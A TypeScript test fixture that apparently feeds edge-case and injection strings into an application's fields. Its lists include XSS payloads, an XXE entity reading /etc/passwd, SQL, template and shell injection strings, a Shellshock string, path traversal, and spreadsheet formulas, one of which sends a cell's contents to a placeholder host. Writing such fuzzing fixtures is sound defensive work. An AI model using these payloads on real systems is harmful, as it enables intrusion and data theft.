const SET_FLAG = 'window.ran=1';

/** Strings that code mistakes for other values. */
const values = [
  '',
  'undefined',
  'null',
  'None',
  'true',
  'NaN',
  '-Infinity',
  '-0',
  '0x7f',
  '1e999',
  '007',
  '1.000,50',
  '1,000.50',
  '9007199254740993',
  '12345678901234567890123456789012345678901234567890',
  '1/0',
  '[object Object]',
  '[]',
  '{}',
  '{"a":1',
  'hasOwnProperty',
  'toString',
  '__proto__',
  'constructor',
  '2026-02-30T25:61:00Z',
  '+1790000000000',
];

/** Markup, scripts and URLs. */
const markup = [
  `<script>${SET_FLAG}</script>`,
  `<img src=x onerror="${SET_FLAG}">`,
  `<IMG SRC=x OnErRoR=${SET_FLAG}//`,
  `<svg/onload=${SET_FLAG}>`,
  `<svg><script>${SET_FLAG}</script></svg><iframe srcdoc="<script>parent.ran=1</script>">`,
  `<svg><style><img src=x onerror=${SET_FLAG}></style></svg>`,
  `<math><mi xlink:href="javascript:${SET_FLAG}">x</mi></math>`,
  `<details open ontoggle=${SET_FLAG}>`,
  `<input autofocus onfocus=${SET_FLAG}>`,
  `<object data="javascript:${SET_FLAG}"></object><embed src="javascript:${SET_FLAG}">`,
  `"><script>${SET_FLAG}</script><a href="javascript:${SET_FLAG}">x</a>`,
  `' onmouseover='${SET_FLAG}`,
  `" autofocus onfocus="${SET_FLAG}`,
  `\`><img src=x onerror=${SET_FLAG}>`,
  `--><img src=x onerror=${SET_FLAG}><!--`,
  `]]><img src=x onerror=${SET_FLAG}>`,
  `</textarea></title><img src=x onerror=${SET_FLAG}>`,
  `<scr<script>ipt>${SET_FLAG}</scr</script>ipt>`,
  `&lt;script&gt;${SET_FLAG}&lt;/script&gt;`,
  '&amp;&#x3c;&#60;&nbsp;&bogus;',
  `＜script＞${SET_FLAG}＜/script＞`,
  `\\x3cscript\\x3e${SET_FLAG}\\u003c/script\\u003e`,
  `';${SET_FLAG};'`,
  `\\";${SET_FLAG};//`,
  `javascript:${SET_FLAG}//https://example.com`,
  ` JaVaScRiPt:${SET_FLAG}`,
  `java\tscript:${SET_FLAG}`,
  `\u0001javascript:${SET_FLAG}`,
  `vbscript:${SET_FLAG}`,
  `data:text/html,<script>${SET_FLAG}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${SET_FLAG}"/>`,
  `[x](javascript:${SET_FLAG}) ![x](https://elsewhere.example/beacon.png) <b onclick=${SET_FLAG}>b</b>`,
  `[x]: javascript:${SET_FLAG}\n\n[x] <javascript:${SET_FLAG}>`,
  '<form action=https://elsewhere.example><button>Send</button></form><base href=https://elsewhere.example>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example">',
  '<link rel=stylesheet href=//elsewhere.example/x.css><style>@import "//elsewhere.example/x.css"</style>',
  '</style><style>*{display:none}</style>',
  '<plaintext>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '//elsewhere.example/path',
  'https:\\\\elsewhere.example',
  'https://user:password@elsewhere.example:99999/%zz',
];

/** Commands and templates of other languages, and paths. */
const commands = [
  "'; DROP TABLE pages; --",
  "' OR '1'='1",
  '%_!%',
  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7}`,
  '{{constructor.constructor("window.ran=1")()}}',
  '%s %d %n %*.*s {0}',
  '$(id) `id` | id; id && id',
  '() { :; }; id',
  '--help',
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
  '@SUM(1+1)*cmd',
  '+1-1',
  'a,"b";c\td',
  '../../../v0/pages?x=1#y',
  '..\\..\\windows\\system.ini',
  '%2e%2e/%00/%zz',
  '%c0%ae%c0%ae/etc/passwd',
  '/dev/null',
  'CON',
  '.',
  '..',
  '\\',
  '^(a+)+$',
  '[a-z](*',
];

/** Unusual and invisible characters. The service rejects NUL and lone surrogates, so none are here. */
const characters = [
  ' ',
  ' \t\r\n ',
  '\u0001\u0007\b\u000b\u001b[31mred\u001b[0m\u007f\u0085\u009f',
  'line\u2028paragraph\u2029end',
  '\u00a0\u1680\u2007\u202f\u3000',
  '\u200b\u200c\u200d\u2060\ufeff\u00ad',
  'in\u200bvisible in\u00advisible',
  '\ufffd\ufffe\uffff\u{10ffff}\ue000',
  '\u202e\u2066right to left\u2069 and back',
  '\u202dgnp.\u202eexe.txt',
  '\u2067never closed',
  'שלום, עולם — مرحبا بالعالم',
  'بِسْمِ ٱللَّٰهِ ﷽ test 123 ١٢٣',
  'नमस्ते ก็ดี ཨོཾ',
  '東京都 パーティー ﾊﾟｰﾃｨｰ 한국어 한국어',
  'Ａｃｍｅ ①②③ ﬁﬂ ℡ ㍿',
  'раураӏ.example',
  'e\u0301 é Å Å ß ẞ İ ı ς',
  '\u{1f468}‍\u{1f469}‍\u{1f467}‍\u{1f466}\u{1f3f4}\u{e0067}\u{e0062}',
  '\u{1f44d}\u{1f3fd} \u{1f1e9}\u{1f1ea}\u{1f1eb} 1\ufe0f\u20e3 \u2764\ufe0f \u{1f3fd}\u200d',
  '𠜎𠜱 𝓯𝓪𝓷𝓬𝔂 𐐷',
  `Z${'\u0335\u0321\u0322\u0348\u0353'.repeat(60)}algo`,
  '\u0301\u0301starts with marks',
  '(╯°□°)╯︵ ┻━┻',
  'Ω≈ç√∫ ‰ ⅛ ⁰⁴⁵ €£¥₿',
];

const longStrings = [
  'a'.repeat(4000),
  'wide words and spaces '.repeat(300),
  '🄰'.repeat(500),
  '<'.repeat(300),
  '('.repeat(300),
  'x\n'.repeat(300),
  '> '.repeat(100),
];

export const injectionStrings: readonly string[] = [
  ...values,
  ...markup,
  ...commands,
  ...characters,
  ...longStrings,
];

export const combinedStrings = injectionStrings.join('\n');

/** Cuts without splitting a surrogate pair. */
export const truncate = (text: string, length: number) =>
  text.slice(0, length).toWellFormed().replaceAll('\ufffd', '');

/** The `n`th string, wrapping around. */
export const stringAt = (n: number): string => injectionStrings[n % injectionStrings.length] ?? '';

/** For fields that must not be empty. */
export const nonEmptyStringAt = (n: number): string => (stringAt(n).trim() ? stringAt(n) : 'empty');

/** Code-like single-line strings, short enough for a text field or URL. */
export const shortCodeStrings: readonly string[] = injectionStrings.filter(
  (text) => /[<&%\\]|script|\.\./.test(text) && text.length < 500 && !/[\r\n]/.test(text),
);
